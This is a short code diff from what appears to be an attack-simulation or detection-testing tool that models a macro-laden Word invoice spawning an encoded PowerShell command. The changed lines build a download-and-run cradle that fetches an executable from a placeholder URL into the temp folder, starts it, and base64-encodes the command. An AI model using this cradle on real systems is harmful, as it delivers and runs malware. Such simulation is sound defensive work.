@@ -55,7 +55,10 @@ def _open_invoice(stage: Stage) -> Process:
         life=4 * 10**10,
     )
     record.image_load(word, clock("07:41:05.5529811"), program("windows", "VBE7.DLL"))
-    script = f"IEX (New-Object Net.WebClient).DownloadFile('{FETCH_URL}',$env:TEMP+'\\svc_update.exe')"
+    script = (
+        f"(New-Object Net.WebClient).DownloadFile('{FETCH_URL}',$env:TEMP+'\\svc_update.exe');"
+        "Start-Process $env:TEMP\\svc_update.exe -Arg -s"
+    )
     encoded = base64.b64encode(script.encode("utf-16-le")).decode()
     return record.start(
         word,
